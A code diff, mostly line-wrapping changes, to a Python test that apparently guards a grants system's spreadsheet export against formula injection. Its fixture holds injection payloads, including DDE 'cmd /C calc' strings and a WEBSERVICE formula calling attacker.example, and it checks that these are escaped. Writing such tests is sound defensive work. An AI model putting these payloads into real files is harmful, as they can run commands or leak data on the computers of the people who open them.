@@ -43,7 +43,7 @@ DANGEROUS = {
     "reference": "-2+3-AWD",
     "stream": "@SUM(1+1)*cmd|' /C calc'!A0",
     "priority": "=1+1 priority",
-    "decision": "=WEBSERVICE(\"http://attacker.example\")",
+    "decision": '=WEBSERVICE("http://attacker.example")',
     "invoice": "|cmd /C calc",
     "po": "\uff0bPO-1",  # full-width plus
     "reason": "\uff0dreason",  # full-width minus
@@ -58,28 +58,44 @@ def seeded(db):
     priority = CommissioningPriorityFactory(code="PX", name=DANGEROUS["priority"])
     stream = FundingStreamFactory(name=DANGEROUS["stream"], source=provider)
     decision = DecisionFactory(
-        reference="PCC-2019-900", subject=DANGEROUS["decision"], status=DecisionStatus.PUBLISHED,
-        decided_on=datetime.date(2019, 6, 1), signed_at=timezone.now(), published_on=datetime.date(2019, 6, 2),
+        reference="PCC-2019-900",
+        subject=DANGEROUS["decision"],
+        status=DecisionStatus.PUBLISHED,
+        decided_on=datetime.date(2019, 6, 1),
+        signed_at=timezone.now(),
+        published_on=datetime.date(2019, 6, 2),
         summary=DANGEROUS["decision"],
     )
     awards = []
     for number, kind in enumerate((AwardKind.GRANT, AwardKind.CONTRACT)):
         award = AwardFactory(
-            reference=f"{DANGEROUS['reference']}{number}", title=DANGEROUS["title"], provider=provider,
-            priority=priority, kind=kind, status=AwardStatus.ACTIVE,
+            reference=f"{DANGEROUS['reference']}{number}",
+            title=DANGEROUS["title"],
+            provider=provider,
+            priority=priority,
+            kind=kind,
+            status=AwardStatus.ACTIVE,
         )
         if hasattr(award, "decision_id"):
             award.decision = decision
             award.save(update_fields=["decision"])
         FundingLineFactory(award=award, stream=stream, fy=FY, amount=Decimal("60000.00"))
         PaymentFactory(
-            award=award, stream=stream, fy=FY, amount=Decimal("1500.00"),
-            due_date=datetime.date(2019, 6, 30), paid_date=datetime.date(2019, 7, 1),
-            invoice_reference=DANGEROUS["invoice"], po_number=DANGEROUS["po"], reason=DANGEROUS["reason"],
+            award=award,
+            stream=stream,
+            fy=FY,
+            amount=Decimal("1500.00"),
+            due_date=datetime.date(2019, 6, 30),
+            paid_date=datetime.date(2019, 7, 1),
+            invoice_reference=DANGEROUS["invoice"],
+            po_number=DANGEROUS["po"],
+            reason=DANGEROUS["reason"],
         )
         awards.append(award)
     ret = MonitoringReturnFactory(award=awards[0], submitted=True, narrative=DANGEROUS["narrative"])
-    ReturnKPIValueFactory(monitoring_return=ret, kpi=AwardKPIFactory(award=awards[0], name=DANGEROUS["kpi"]), value=Decimal("3"))
+    ReturnKPIValueFactory(
+        monitoring_return=ret, kpi=AwardKPIFactory(award=awards[0], name=DANGEROUS["kpi"]), value=Decimal("3")
+    )
     return awards
 
 
@@ -130,8 +146,10 @@ def test_formula_text_is_written_with_a_leading_apostrophe(seeded, kind, format)
         texts = [value for data_type, value in cells if isinstance(value, str)]
         # Formulas are only the totals rows' sums, which the exporter writes itself.
         unguarded = [
-            value for data_type, value in cells
-            if isinstance(value, str) and value.startswith(FORMULA_PREFIXES)
+            value
+            for data_type, value in cells
+            if isinstance(value, str)
+            and value.startswith(FORMULA_PREFIXES)
             and not (data_type == "f" and value.startswith("=SUM("))
         ]
     assert unguarded == [], f"{kind} ({format}) writes formula text unguarded"
